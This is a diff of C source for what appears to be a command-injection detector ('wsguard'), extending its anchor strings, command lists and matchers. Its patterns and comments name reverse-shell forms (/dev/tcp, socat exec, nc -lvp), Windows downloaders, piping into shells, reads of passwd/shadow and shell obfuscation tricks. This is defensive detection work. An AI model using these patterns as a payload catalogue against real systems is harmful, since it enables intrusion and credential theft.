@@ -9,21 +9,56 @@
 #include <string.h>
 #include "detect.h"
 
+/* Windows administration tools that are no words: commands after any separator. */
+#define WSG_WINTOOLS                                                                      \
+	"bcdboot", "bcdedit", "diskpart", "vssadmin", "wevtutil", "fsutil", "takeown",       \
+	"icacls", "wbadmin"
+
+/* A command after a separator in mid-value: "& x", "&x", "| x" ("|x" is WSG_LETTERS). */
+#define WSG_SEPCMD(cmd) "& " cmd, "&" cmd, "| " cmd
+
 /* Calls, substitution, separators at a value start or glued to a command. */
 const char *const wsg_cmdi_anchors[] = {
 	WSG_LETTERS("", "("), "`", "';", "'|", WSG_DIGITS("", ";"), ");", "\";", "\"|", "\"&",
 	"$(", "${", "||", "&&", ":;", "{,", "$ifs", "; ", WSG_LETTERS(";", ""),
 	WSG_LETTERS("|", ""), ";/", "|/",
 	/* batch FOR/IF: '%' is an escape byte the prefilter holds anyway */
-	"%", "==", "f ex", "if/i", "/i n", "/i e", "rorl", "dext", " geq", " equ", " neq",
+	"%", "==", "f ex", "if  ", "if/i", "/i n", "/i e", "rorl", "dext", " geq", " equ", " neq",
 	" lss", " leq", " gtr",
 	/* a value that starts with a command (the JSON quote before it), or rare names */
 	"hoam", "\"ifc", "\"ipc", "\"net", "\"pwd", "\"id\"", "\"una", "\"ls ", "\"cat",
 	"\"nc ", "\"sle", "\"cur", "\"wge", "\"tim", "\"noh", "\"dir", "\"typ", "\"pin",
-	"\"per", "etsh", "/usr/b", "-enc", "oke-", "\"sys", "\"tas", "\\n/", "\\nid",
-	"\\ncat", "/???", "/??", "?/", "*/", "/[", "''", "$@", "$*", "$$", "``", ">(", "<(",
+	"\"per", "etsh", "/usr/b", "-enc", "oke-", "\"sys", "\"tas", "\\n/", "/???", "/??",
+	"?/", "*/", "/[", "''", "$@", "$*", "$$", "``", ">(", "<(",
 	",}", "<<<", "(){", "() {", "\"ali", "c/pa", "c/sh", "\"ans", "\"csc", "\"pip",
-	"\"chef", "\"gun", "\"zst", "\"unx", ";\"", ";'", NULL,
+	"\"chef", "h nc", "h py", "h ru", "h gd", ";\"", ";'",
+	/* tools that are no words, bin directories at a value start, find -exec */
+	"/ans", "/vis", "cscli", "unxz", "gunzip", "zstdcat", "bsdtar", "ssh-copy-id",
+	"cpulimit", "rmt-tar", "\"/bin/", "\"/sbin/", "-exec",
+	/* Windows administration tools; a shell variable used as a command; piped into a shell */
+	WSG_WINTOOLS, ";$", "|$", "| sh", "| bash", "| zsh", "| dash", "| ksh",
+	"${shell}",
+	/* an interpreter given code to run: "bash -c", "sh -i", "python -c", "perl -e" */
+	"h -c", "h -i", "n -c", "l -e", "y -e", "n3 -c", "!-",
+	/* reverse shells; Windows downloaders (certutil, bitsadmin) by their rarest piece */
+	"/dev/tcp/", "/dev/udp/", "/inet/tcp/", "/inet/udp/", "-e /", "\"ncat", "socat",
+	"| /bin/", "-display ", "rtut", "tsad",
+	/* a command after "& ", "&" or "| " in mid-value */
+	WSG_SEPCMD("id"), WSG_SEPCMD("ls"), WSG_SEPCMD("nc"), WSG_SEPCMD("ping"),
+	WSG_SEPCMD("sleep"), WSG_SEPCMD("net "), WSG_SEPCMD("type "), WSG_SEPCMD("dir"),
+	WSG_SEPCMD("cmd"), WSG_SEPCMD("powershell"), WSG_SEPCMD("wget"), WSG_SEPCMD("curl"),
+	WSG_SEPCMD("echo"), WSG_SEPCMD("uname"), WSG_SEPCMD("systeminfo"), "& timeout", "&timeout",
+	WSG_SEPCMD("ipconfig"), WSG_SEPCMD("ifconfig"), WSG_SEPCMD("tasklist"),
+	/* a backslash inside a word ("w\\ho\\am\\i") */
+	WSG_LETTERS("\\", ""),
+	/* mail protocol commands after a CRLF: the CRLF as typed, or a rare verb */
+	"\\r\\n", "rcpt to", "mail from:", "apop ", "vrfy ", "expn ", "ehlo ",
+	/* a literal "\\n" before a command */
+	WSG_LETTERS("\\n", ""), "\\n ",
+	/* editor shell escapes, SQLite dot commands, -wrapper, brace lists, arithmetic */
+	":!", "\\!", ";.", ";\\", "-wrapper", "{a", "{b", "{c", "{d", "{e", "{f",
+	"{g", "{h", "{i", "{j", "{l", "{m", "{n", "{o", "{p", "{q", "{r", "{s", "{t", "{u", "{v",
+	"{w", "{x", "{y", "{z", "{/", "$[", NULL,
 };
 
 /* Rule ids by index; class, level and description: rules/wsguard.rules.json. */
@@ -37,12 +72,17 @@ const char *const wsg_cmdi_rules[] = {
 	"rce-007",
 	"rce-008",
 	"rce-009",
+	"rce-010",
+	"rce-011",
+	"rce-012",
+	"rce-013",
 	NULL
 };
 
 static const char *const wsg_spawn_fns[] = {
 	"system", "exec", "shell_exec", "passthru", "popen", "proc_open", "pcntl_exec",
-	"phpinfo", "execsync", "spawnsync", "execfile", "getruntime", "processbuilder",
+	"phpinfo", "phpversion", "execsync", "spawnsync", "execfile", "getruntime",
+	"processbuilder",
 	"subprocess.call", "subprocess.popen", "subprocess.run", "subprocess.check_output",
 	"os.system", "os.popen", "child_process", NULL,
 };
@@ -61,19 +101,26 @@ static const char *const wsg_cmds[] = {
 	"expr", "chown", "cp", "mv", "node", "passwd", "su", "ssh", "scp", "w", "who", "uptime",
 	"nmap", "cut", "od", "xxd", "strings", "getent", "lsof", "history", "start", "timeout",
 	"cscript", "wscript", "mshta", "rundll32", "regsvr32", "bitsadmin", "sc", "schtasks",
-	"net1", "pkill", "killall", "halt", "poweroff", "gcc", "cc", "make", "chattr", NULL,
+	"net1", "pkill", "killall", "halt", "poweroff", "gcc", "cc", "make", "chattr", "which",
+	"date", NULL,
 };
 
-/* Tools that are no word of chat: as the start of a value they are a command line. */
+/*
+ * Tools that are no word of chat: as the start of a value they are a command line; those
+ * before WSG_TOOLS_RARE are not words at all and count after a leading token too.
+ */
 static const char *const wsg_tools[] = {
 	"ansible", "ansible-playbook", "ansible-galaxy", "ansible-vault", "ansible-console",
 	"ansible-inventory", "ansible-pull", "ansible-doc", "ansible-config", "chef-shell",
-	"chef-client", "chef-run", "chef-solo", "knife", "cscli", "rmt", "rmt-tar", "perf",
-	"ssh-copy-id", "zstdcat", "gunzip", "unxz", "bsdtar", "visudo", "pip", "pip3", "irb",
-	"gdb", "c89", "c99", "cpulimit", "alias", NULL,
+	"chef-client", "chef-run", "chef-solo", "cscli", "rmt-tar", "ssh-copy-id", "zstdcat",
+	"gunzip", "unxz", "bsdtar", "visudo", "cpulimit",
+	"knife", "rmt", "perf", "pip", "pip3", "irb", "gdb", "c89", "c99", "alias", NULL,
 };
 
+#define WSG_TOOLS_RARE 22
+
 /* Index below which wsg_cmds are risky enough to count after a leading token. */
+
 #define WSG_CMD_RISKY 46
 
 /*
@@ -121,11 +168,26 @@ static size_t wsg_cmd_sep(const char *s, size_t len, size_t i)
 	if (i >= len)
 		return 0;
 	if (i + 1 < len && ((s[i] == '|' && s[i + 1] == '|') || (s[i] == '&' && s[i + 1] == '&') ||
-			    (s[i] == '$' && s[i + 1] == '(')))
-		return 2;
+			    (s[i] == '$' && s[i + 1] == '(') || (s[i] == '\\' && s[i + 1] == 'n')))
+		return 2;	/* a literal "\\n" is a line break typed into a field */
 	if (s[i] == ';' || s[i] == '|' || s[i] == '&' || s[i] == '`' || s[i] == '\n')
 		return 1;
 	return 0;
+}
+
+/* Blank-separated words in s[i..e). */
+static int wsg_count_words(const char *s, size_t i, size_t e)
+{
+	int n = 0;
+
+	while (i < e) {
+		i = wsg_skip_space(s, e, i);
+		if (i < e)
+			n++;
+		while (i < e && !wsg_is_space((unsigned char)s[i]))
+			i++;
+	}
+	return n;
 }
 
 static int wsg_cmdi_hit(struct wsg_hit *h, int rule, size_t off)
@@ -134,7 +196,98 @@ static int wsg_cmdi_hit(struct wsg_hit *h, int rule, size_t off)
 }
 
 static int wsg_cmdi_windows(const char *cmd, const char *s, size_t len, size_t i);
+static int wsg_cmdi_args(const char *cmd, const char *s, size_t len, size_t i);
 static int wsg_cmdi_sysdir(const char *s, size_t len, size_t i);
+
+static size_t wsg_cmd_clean(const char *s, size_t len, size_t i, char *out, size_t cap,
+			    int *hidden);
+
+/*
+ * The word at s[i] is a command whose name quotes, escapes or empty expansions hide
+ * ("c$*at", "w\\ho\\ami"); a '+' (a form-encoded blank) may end it.
+ */
+static int wsg_cmdi_hidden(const char *s, size_t len, size_t i)
+{
+	char cmd[32];
+	const char *slash;
+	int hidden;
+	size_t n, e = wsg_cmd_clean(s, len, i, cmd, sizeof(cmd), &hidden);
+
+	if (!hidden || e == i || (e < len && !wsg_is_space((unsigned char)s[e]) &&
+				  !strchr(";|&<>)`+", s[e])))
+		return 0;
+	slash = strrchr(cmd, '/');
+	if (slash)
+		memmove(cmd, slash + 1, strlen(slash + 1) + 1);
+	n = strlen(cmd);
+	if (wsg_in_list(wsg_cmds, cmd, n) < 0)	/* "${x}gcc7.4": a versioned name */
+		while (n > 2 && (wsg_is_digit((unsigned char)cmd[n - 1]) || cmd[n - 1] == '.'))
+			n--;
+	return n > 1 && wsg_in_list(wsg_cmds, cmd, n) >= 0;
+}
+
+/*
+ * "a=nc&&$a -lvp 555": the leading token assigns a command to a variable that the command
+ * at s[i] expands (after "&&", "||", ";" or "|", each with "$" an anchor).
+ */
+static int wsg_cmdi_assigned(const char *s, size_t len, size_t lead, size_t i)
+{
+	size_t b = wsg_skip_space(s, len, 0), n = 0, v, e;
+
+	while (b < len && (s[b] == '\'' || s[b] == '"'))
+		b++;
+	while (n < lead && wsg_is_word((unsigned char)s[b + n]))
+		n++;
+	if (!n || n >= lead || s[b + n] != '=' || i + 1 + n > len || s[i] != '$' ||
+	    i == 0 || !strchr(";|&", s[i - 1]))
+		return 0;
+	if (s[i + 1] == '{' ? i + 3 + n > len || memcmp(s + i + 2, s + b, n) || s[i + 2 + n] != '}'
+			    : memcmp(s + i + 1, s + b, n) ||
+			      (i + 1 + n < len && wsg_is_word((unsigned char)s[i + 1 + n])))
+		return 0;
+	v = b + n + 1;
+	for (e = v; e < b + lead && wsg_is_word((unsigned char)s[e]);)
+		e++;
+	return e == b + lead && wsg_in_list(wsg_cmds, s + v, e - v) >= 0;
+}
+
+/*
+ * The leading token of a value, lead bytes long after blanks and quotes, is a command or a
+ * value without letters ("127.0.0.1"): what a chained tool is believable after.
+ */
+static int wsg_cmdi_lead_cmd(const char *s, size_t len, size_t lead)
+{
+	size_t i = wsg_skip_space(s, len, 0);
+
+	while (i < len && (s[i] == '\'' || s[i] == '"'))
+		i++;
+	for (size_t k = i; k < i + lead; k++)
+		if (wsg_is_alpha((unsigned char)s[k]))
+			return wsg_in_list(wsg_cmds, s + i, lead) >= 0;
+	return 1;
+}
+
+static int wsg_cmdi_prose(const char *s, size_t len, size_t i);
+
+/*
+ * A word not in the lists at s[i..end) after a separator is a command when the value is
+ * "time; word ..." (a timing wrapper, then ';') or ";word -flag" / ";word /path" with the
+ * ';' glued to it (";<letter>" anchors).
+ */
+static int wsg_cmdi_unknown(const char *s, size_t len, size_t lead, size_t i, size_t end)
+{
+	size_t b = wsg_skip_space(s, len, 0), a;
+
+	if (i == 0 || !wsg_is_alpha((unsigned char)s[i]))
+		return 0;
+	/* "time; word", "time;word": "; " and ";<letter>" are anchors */
+	if (lead == 4 && !memcmp(s + b, "time", 4) && s[b + 4] == ';' &&
+	    (i == b + 5 || (i == b + 6 && s[b + 5] == ' ')))
+		return !wsg_cmdi_prose(s, len, end);	/* "time; money is tight" */
+	a = wsg_skip_space(s, len, end);
+	return !lead && s[i - 1] == ';' && end < len && s[end] == ' ' && a < len &&
+	       (s[a] == '-' || s[a] == '/');
+}
 
 /* rce-001: [token] sep command, at the start of the value. */
 static int wsg_cmdi_start(const char *s, size_t len, struct wsg_hit *h)
@@ -154,14 +307,24 @@ static int wsg_cmdi_start(const char *s, size_t len, struct wsg_hit *h)
 	if (!sep || (lead && s[i] == '`')) /* a backtick after a word is rce-002's to judge */
 		return 0;
 	i = wsg_skip_space(s, len, i + sep);
+	if (wsg_cmdi_hidden(s, len, i) || wsg_cmdi_assigned(s, len, lead, i))
+		return wsg_cmdi_hit(h, 8, i);
 	k = wsg_cmd_at(s, len, i, &end);
-	if (k < 0 && !lead) {
+	if (k < 0) {
 		size_t name, n = wsg_cmd_word(s, len, i, &name, &end);
 
-		if (n && wsg_in_list(wsg_tools, s + name, n) >= 0)
+		k = n ? wsg_in_list(wsg_tools, s + name, n) : -1;
+		if (k >= 0 && (!lead || (k < WSG_TOOLS_RARE && wsg_cmdi_lead_cmd(s, len, lead))))
 			return wsg_cmdi_hit(h, 0, i);
+		return n && wsg_cmdi_unknown(s, len, lead, i, end) ? wsg_cmdi_hit(h, 0, i) : 0;
 	}
-	if (k < 0 || (lead && k >= WSG_CMD_RISKY))
+	if (k < 0 || (lead && k >= WSG_CMD_RISKY && !wsg_cmdi_args(wsg_cmds[k], s, len, end)))
+		return 0;
+	/* "tom & ping pong": after a word and a lone '&', prose unless the arguments attack */
+	if (lead && s[i - 1 - (s[i - 1] == ' ')] == '&' && wsg_cmd_sep(s, len, i - 1) != 2 &&
+	    wsg_is_alpha((unsigned char)s[wsg_skip_space(s, len, end)]) &&
+	    !wsg_cmdi_args(wsg_cmds[k], s, len, end) &&
+	    !wsg_cmdi_windows(wsg_cmds[k], s, len, wsg_skip_space(s, len, end)))
 		return 0;
 	/* "!ntfs | NET||abuse": net is a word unless a net verb follows */
 	if (!strcmp(wsg_cmds[k], "net") &&
@@ -182,8 +345,6 @@ static int wsg_cmdi_prose_span(const char *s, size_t len, size_t i)
 	return close && i > 0 && s[i - 1] == ' ' && c + 1 < len && s[c + 1] == ' ';
 }
 
-static int wsg_cmdi_args(const char *cmd, const char *s, size_t len, size_t i);
-
 /* rce-002: $(cmd) or `cmd` with a risky command. */
 static int wsg_cmdi_subst(const char *s, size_t len, struct wsg_hit *h)
 {
@@ -199,6 +360,9 @@ static int wsg_cmdi_subst(const char *s, size_t len, struct wsg_hit *h)
 			continue;
 		j = wsg_skip_space(s, len, j);
 		k = wsg_cmd_at(s, len, j, &end);
+		/* "$(`dir`)": a substitution nested in another runs any command */
+		if (k >= 0 && i >= 2 && s[i] == '`' && s[i - 1] == '(' && s[i - 2] == '$')
+			return wsg_cmdi_hit(h, 1, i - 2);
 		if (k < 0 || k >= WSG_CMD_RISKY || !strcmp(wsg_cmds[k], "echo"))
 			continue;
 		/* "linux-headers-$(uname -r)" is everyday advice */
@@ -213,6 +377,15 @@ static int wsg_cmdi_subst(const char *s, size_t len, struct wsg_hit *h)
 		return wsg_cmdi_hit(h, 1, i);
 	}
 	return 0;
+}
+
+/* A shell or script interpreter (its -c/-e/-i arguments run code). */
+static int wsg_cmdi_interp(const char *cmd)
+{
+	static const char *const interp[] = { "bash", "sh", "zsh", "ksh", "dash", "python",
+		"python2", "python3", "perl", "ruby", "php", "node", NULL };
+
+	return wsg_in_list(interp, cmd, strlen(cmd)) >= 0;
 }
 
 /* Arguments that make a chained command an attack rather than advice. */
@@ -231,8 +404,15 @@ static int wsg_cmdi_args(const char *cmd, const char *s, size_t len, size_t i)
 		return i == end || strchr(";|&`)'\"", s[i]);
 	if (!strcmp(cmd, "cat") || !strcmp(cmd, "type") || !strcmp(cmd, "more") ||
 	    !strcmp(cmd, "head") || !strcmp(cmd, "tail") || !strcmp(cmd, "less")) {
+		char arg[256];
+		size_t n = 0;
+
+		/* "/e\"t\"c/pa's'swd": quotes and backslashes do not split a path */
+		for (size_t k = i; k < end && n + 1 < sizeof(arg); k++)
+			if (s[k] != '"' && s[k] != '\'' && s[k] != '\\')
+				arg[n++] = s[k];
 		for (int k = 0; files[k]; k++)
-			if (memmem(s + i, end - i, files[k], strlen(files[k])))
+			if (memmem(arg, n, files[k], strlen(files[k])))
 				return 1;
 		return 0;
 	}
@@ -253,6 +433,19 @@ static int wsg_cmdi_args(const char *cmd, const char *s, size_t len, size_t i)
 		return i < end && (wsg_is_digit((unsigned char)s[i]) || s[i] == '-');
 	if (!strcmp(cmd, "powershell") || !strcmp(cmd, "cmd") || !strcmp(cmd, "certutil"))
 		return 1;
+	/* socat tcp:x:4444 exec:/bin/sh; xterm -display 10.0.0.1:1 */
+	if (!strcmp(cmd, "socat"))
+		return memmem(s + i, end - i, "exec:", 5) || memmem(s + i, end - i, "system:", 7);
+	if (!strcmp(cmd, "xterm"))
+		return memmem(s + i, end - i, "-display ", 9) != NULL;
+	/* date -f reads a file and prints its lines as errors */
+	if (!strcmp(cmd, "date"))
+		return i + 1 < end && (!memcmp(s + i, "-f", 2) || !memcmp(s + i, "--file", 6));
+	/* find /etc -name passwd -exec cat {} + ("-exec" is an anchor) */
+	if (!strcmp(cmd, "find"))
+		return memmem(s + i, end - i, "-exec", 5) &&
+		       (memmem(s + i, end - i, "/etc", 4) || memmem(s + i, end - i, "passwd", 6) ||
+			memmem(s + i, end - i, "shadow", 6));
 	return 0;
 }
 
@@ -300,8 +493,33 @@ static int wsg_cmdi_chain(const char *s, size_t len, struct wsg_hit *h)
 }
 
 /*
- * One batch token: "quoted", [bracketed], (parenthesised) or a run up to a blank or '='.
- * Returns its end, or i when there is none.
+ * The end of the parenthesised set at s[i] == '(': nested parentheses counted, those inside
+ * quotes ("('cmd /c \"set /a (6+2)\"')") skipped when the quotes close; i when unclosed.
+ */
+static size_t wsg_bat_paren(const char *s, size_t len, size_t i)
+{
+	for (int quotes = 1; quotes >= 0; quotes--) {
+		char q = 0;
+		int depth = 0;
+
+		for (size_t k = i; k < len; k++) {
+			if (q) {
+				q = s[k] == q ? 0 : q;
+			} else if (quotes && (s[k] == '\'' || s[k] == '"')) {
+				q = s[k];
+			} else if (s[k] == '(') {
+				depth++;
+			} else if (s[k] == ')' && !--depth) {
+				return k + 1;
+			}
+		}
+	}
+	return i;
+}
+
+/*
+ * One batch token: "quoted" (or \"quoted\" as a JSON-escaped value holds it), [bracketed],
+ * (parenthesised) or a run up to a blank or '='. Returns its end, or i when there is none.
  */
 static size_t wsg_bat_token(const char *s, size_t len, size_t i)
 {
@@ -309,8 +527,14 @@ static size_t wsg_bat_token(const char *s, size_t len, size_t i)
 
 	if (i >= len)
 		return i;
-	if (s[i] == '"' || s[i] == '[' || s[i] == '(') {
-		close = memchr(s + i + 1, s[i] == '"' ? '"' : s[i] == '[' ? ']' : ')', len - i - 1);
+	if (s[i] == '(')
+		return wsg_bat_paren(s, len, i);
+	if (s[i] == '\\' && i + 2 < len && s[i + 1] == '"') {
+		close = memchr(s + i + 2, '"', len - i - 2);
+		return close ? (size_t)(close - s) + 1 : i;
+	}
+	if (s[i] == '"' || s[i] == '[') {
+		close = memchr(s + i + 1, s[i] == '"' ? '"' : ']', len - i - 1);
 		return close ? (size_t)(close - s) + 1 : i;
 	}
 	while (i < len && !wsg_is_space((unsigned char)s[i]) && s[i] != '=' && s[i] != '(')
@@ -405,6 +629,18 @@ static int wsg_cmdi_batch(const char *s, size_t len, struct wsg_hit *h)
 	return i < len ? wsg_cmdi_hit(h, 6, st) : 0;
 }
 
+/* The '\'' at s[i] sits between letters and no other one closes it within the word. */
+static int wsg_cmd_contraction(const char *s, size_t len, size_t i)
+{
+	if (!i || !wsg_is_alpha((unsigned char)s[i - 1]) || i + 1 >= len ||
+	    !wsg_is_alpha((unsigned char)s[i + 1]))
+		return 0;
+	for (i++; i < len && !wsg_is_space((unsigned char)s[i]) && !strchr(";|&", s[i]); i++)
+		if (s[i] == '\'')
+			return 0;
+	return 1;
+}
+
 /*
  * The command word at s[i] with shell obfuscation removed: quotes ('' "" 'x'), backslashes,
  * empty expansions ($@ $* $() ${x} `` <() >()), written to out (lowercase letters, digits,
@@ -422,10 +658,15 @@ static size_t wsg_cmd_clean(const char *s, size_t len, size_t i, char *out, size
 		if (wsg_is_word(c) || c == '.' || c == '-' || c == '/') {
 			out[o++] = (char)c;
 			i++;
+		} else if (c == '\\' && i + 1 < len && strchr("nrt", s[i + 1]) && o) {
+			break;	/* a literal "\n" after the word ends it */
+		} else if (c == '\'' && o && wsg_cmd_contraction(s, len, i)) {
+			break;	/* "i'd", "don't": an apostrophe, not a quote */
 		} else if (c == '\'' || c == '"' || c == '\\') {
 			*hidden = 1;
 			i++;
-		} else if (c == '$' && i + 1 < len && (s[i + 1] == '@' || s[i + 1] == '*')) {
+		} else if (c == '$' && i + 1 < len && (s[i + 1] == '@' || s[i + 1] == '*' ||
+						       s[i + 1] == '$')) {
 			*hidden = 1;
 			i += 2;
 		} else if ((c == '$' || c == '<' || c == '>') && i + 2 < len && s[i + 1] == '(' &&
@@ -484,11 +725,88 @@ static int wsg_cmdi_windows(const char *cmd, const char *s, size_t len, size_t i
 	if (!strcmp(cmd, "netsh") || !strcmp(cmd, "wmic") || !strcmp(cmd, "reg") ||
 	    !strcmp(cmd, "schtasks") || !strcmp(cmd, "bitsadmin") || !strcmp(cmd, "vssadmin") ||
 	    !strcmp(cmd, "invoke-webrequest") || !strcmp(cmd, "invoke-expression") ||
-	    !strcmp(cmd, "pwsh") || !strcmp(cmd, "icacls"))
-		return e > i;
+	    !strcmp(cmd, "pwsh") || !strcmp(cmd, "icacls")) {
+		if (e == i && i + 1 < len && s[i] == '/')	/* "bitsadmin /transfer" */
+			for (e = i + 1; e < len && wsg_is_word((unsigned char)s[e]);)
+				e++;
+		return e > i + 1 || (e > i && s[i] != '/');
+	}
 	if (!strcmp(cmd, "type") || !strcmp(cmd, "dir"))
 		return i + 2 < len && ((s[i + 1] == ':' && wsg_is_alpha((unsigned char)s[i])) ||
 				       s[i] == '%' || s[i] == '\\');
+	return 0;
+}
+
+/*
+ * The arguments at s[i] (up to a separator) hold a function word of English: the command
+ * is quoted in a sentence ("cat /etc/hosts shows it"), not run.
+ */
+static int wsg_cmdi_prose(const char *s, size_t len, size_t i)
+{
+	static const char *const fw[] = { "is", "it", "the", "to", "a", "an", "on", "of", "for",
+		"and", "or", "you", "your", "with", "in", "if", "how", "this", "that", "what", "me",
+		"my", "then", "will", "can", "should", "does", "just", "from", "shows", "lists",
+		"are", "was", "but", "not", "when", "there", "i", "we", NULL };
+
+	while (i < len && !strchr(";|&`\n", s[i])) {
+		size_t e = i;
+
+		while (e < len && wsg_is_alpha((unsigned char)s[e]))
+			e++;
+		if (e > i && wsg_in_list(fw, s + i, e - i) >= 0 &&
+		    (e == len || wsg_is_space((unsigned char)s[e]) || strchr(",?!", s[e]) ||
+		     (s[e] == '.' && (e + 1 == len || wsg_is_space((unsigned char)s[e + 1])))))
+			return 1;
+		while (e < len && !wsg_is_space((unsigned char)s[e]))
+			e++;
+		i = wsg_skip_space(s, len, e);
+	}
+	return 0;
+}
+
+/* "chef report nodes": the Chef tool with one of its subcommands ("\"chef" anchors). */
+static int wsg_cmdi_chef(const char *s, size_t len, size_t i)
+{
+	static const char *const sub[] = { "report", "exec", "shell", "client", "solo", "run",
+		"generate", "install", "push", "update", "export", "env", "diff", "verify", "gem",
+		"provision", "describe-cookbook", "show-policy", "delete-policy", NULL };
+	size_t e = i;
+
+	while (e < len && (wsg_is_alpha((unsigned char)s[e]) || s[e] == '-'))
+		e++;
+	return wsg_in_list(sub, s + i, e - i) >= 0 &&
+	       (e == len || wsg_is_space((unsigned char)s[e]));
+}
+
+/*
+ * "which nc", "which python3": the rest of the value at s[i] is one interpreter or network
+ * tool an attacker looks for ("h nc", "h py", "h ru", "h gd" are anchors).
+ */
+static int wsg_cmdi_which(const char *s, size_t len, size_t i)
+{
+	static const char *const tools[] = { "nc", "ncat", "python", "python2",
+		"python3", "ruby", "gdb", NULL };
+	size_t e;
+
+	i = wsg_skip_space(s, len, i);
+	for (e = i; e < len && !wsg_is_space((unsigned char)s[e]);)
+		e++;
+	return wsg_in_list(tools, s + i, e - i) >= 0 && wsg_skip_space(s, len, e) == len;
+}
+
+/*
+ * "/usr/bin/python3 -m http.server": the command at s[st] is named by its bin directory, at
+ * the value start or after ';' or '|' (anchors with the directory).
+ */
+static int wsg_cmdi_bindir(const char *s, size_t st)
+{
+	static const char *const dirs[] = { "/usr/bin/", "/bin/", "/sbin/", NULL };
+
+	for (int k = 0; dirs[k]; k++)
+		if (!strncmp(s + st, dirs[k], strlen(dirs[k])) &&
+		    (k < 1 || st == 0 || s[st - 1] == ';' || s[st - 1] == '|') &&
+		    !strchr(s + st + strlen(dirs[k]), '/'))
+			return 1;
 	return 0;
 }
 
@@ -502,26 +820,38 @@ static int wsg_cmdi_value(const char *s, size_t len, struct wsg_hit *h)
 {
 	size_t i = wsg_value_start(s, len), st, e;
 	char cmd[32];
-	int hidden, k, words = 0;
+	int hidden, k, words = 0, sudo = 0;
 
 	while (i + 1 < len && s[i] == '\\' && (s[i + 1] == 'n' || s[i + 1] == 'r'))
 		i = wsg_skip_space(s, len, i + 2);	/* a literal "\\n" before the command */
+	if (i + 9 <= len && !memcmp(s + i, "${shell}", 8) && s[i + 8] == ' ')
+		return wsg_cmdi_hit(h, 8, i);	/* the login shell, run by its variable */
 	for (int w = 0; w < 4; w++) {
 		st = i;
 		e = wsg_cmd_clean(s, len, i, cmd, sizeof(cmd), &hidden);
+		if (i + 9 <= len && !memcmp(s + i, "%comspec%", 9)) {	/* '%' is an anchor */
+			strcpy(cmd, "cmd");
+			e = i + 9;
+		}
 		if (e == i || (e < len && !wsg_is_space((unsigned char)s[e]) &&
 			       !strchr(";|&<>)`'\"\\", s[e])))
 			return 0;
 		{
 			const char *slash = strrchr(cmd, '/');
+			size_t n;
 
 			if (slash && slash[1])
 				memmove(cmd, slash + 1, strlen(slash + 1) + 1);
+			n = strlen(cmd);
+			if (n > 4 && !strcmp(cmd + n - 4, ".exe"))
+				cmd[n - 4] = 0;
 		}
 		i = wsg_skip_space(s, len, e);
 		if (wsg_in_list(wsg_wrappers, cmd, strlen(cmd)) < 0)
 			break;
-		words++;
+		/* "sudo x" is advice */
+		sudo |= !strcmp(cmd, "sudo") || !strcmp(cmd, "doas");
+		words += !sudo;
 		while (i < len && (s[i] == '-' || wsg_is_digit((unsigned char)s[i]))) {
 			while (i < len && !wsg_is_space((unsigned char)s[i]))
 				i++;
@@ -564,12 +894,24 @@ static int wsg_cmdi_value(const char *s, size_t len, struct wsg_hit *h)
 			return wsg_cmdi_hit(h, 7, st);
 	if (words && k >= 0)
 		return wsg_cmdi_hit(h, 7, st);
-	if (k >= 0 && wsg_cmdi_args(cmd, s, len, i))
+	/* "cat /etc/hosts shows it", "nc -l 1234 to test the port": a command in a sentence */
+	if (wsg_cmdi_prose(s, len, i))
+		return 0;
+	/* "sudo sh -c 'echo 1 > /proc/...'" is advice; "bash -c '...'" alone is not */
+	if (k >= 0 && wsg_cmdi_args(cmd, s, len, i) && !(sudo && k < WSG_CMD_RISKY &&
+							   wsg_cmdi_interp(cmd)))
 		return wsg_cmdi_hit(h, 7, st);
 	if ((!strcmp(cmd, "ls") || !strcmp(cmd, "dir") || !strcmp(cmd, "find")) &&
 	    wsg_cmdi_sysdir(s, len, i))
 		return wsg_cmdi_hit(h, 7, st);
 	if (wsg_cmdi_windows(cmd, s, len, i))
+		return wsg_cmdi_hit(h, 7, st);
+	if (!strcmp(cmd, "which") && wsg_cmdi_which(s, len, i))
+		return wsg_cmdi_hit(h, 7, st);
+	if (!strcmp(cmd, "chef") && wsg_cmdi_chef(s, len, i))
+		return wsg_cmdi_hit(h, 7, st);
+	if (k >= 0 && i < len && s[i] == '-' && wsg_count_words(s, i, len) > 1 &&
+	    wsg_cmdi_bindir(s, st))
 		return wsg_cmdi_hit(h, 7, st);
 	return 0;
 }
@@ -603,6 +945,492 @@ static int wsg_cmdi_fnbomb(const char *s, size_t len, struct wsg_hit *h)
 	return 0;
 }
 
+/*
+ * A shell glob component pat[0..n) against name: '?' one byte, '*' any run, [set] one byte
+ * of the set; a '?' or '*' inside a set counts as any byte ("/[?]tc" is read as "/?tc").
+ */
+static int wsg_glob_match(const char *pat, size_t n, const char *name)
+{
+	if (!n)
+		return !*name;
+	if (pat[0] == '*')
+		return wsg_glob_match(pat + 1, n - 1, name) ||
+		       (*name && wsg_glob_match(pat, n, name + 1));
+	if (!*name)
+		return 0;
+	if (pat[0] == '[') {
+		const char *close = memchr(pat + 1, ']', n - 1);
+		size_t m;
+		int neg, in = 0;
+
+		if (!close)
+			return pat[0] == *name && wsg_glob_match(pat + 1, n - 1, name + 1);
+		m = (size_t)(close - pat);
+		neg = m > 1 && (pat[1] == '!' || pat[1] == '^');
+		for (size_t k = 1 + neg; k < m; k++) {
+			if (k + 2 < m && pat[k + 1] == '-')
+				in |= *name >= pat[k] && *name <= pat[k + 2], k += 2;
+			else
+				in |= pat[k] == *name || pat[k] == '?' || pat[k] == '*';
+		}
+		return in != neg && wsg_glob_match(close + 1, n - m - 1, name + 1);
+	}
+	return (pat[0] == '?' || pat[0] == *name) && wsg_glob_match(pat + 1, n - 1, name + 1);
+}
+
+/* The system names a globbed path component stands for: directories, files, commands. */
+static int wsg_glob_names(const char *pat, size_t n)
+{
+	static const char *const names[] = { "bin", "sbin", "etc", "usr", "var", "tmp", "dev",
+		"proc", "root", "home", "lib", "opt", "boot", "srv", "passwd", "shadow", "hosts",
+		"group", "issue", "environ", "self", "version", "cmdline", "sudoers", "subuid",
+		"crontab", "authorized_keys", "id_rsa", NULL };
+
+	for (int k = 0; names[k]; k++)
+		if (wsg_glob_match(pat, n, names[k]))
+			return 1;
+	for (int k = 0; wsg_cmds[k]; k++)
+		if (wsg_cmds[k][1] && wsg_glob_match(pat, n, wsg_cmds[k]))
+			return 1;
+	return 0;
+}
+
+/*
+ * The path at s[b..e) hides a system path behind globs: a set holding '/' (it never matches
+ * in a path: pure disguise), or every globbed component names a system directory, file or
+ * command and one of them does so by more than a trailing '*' on the last component
+ * ("ls /usr/bin/py*" lists; "/et*" and "/???/c?t" disguise).
+ */
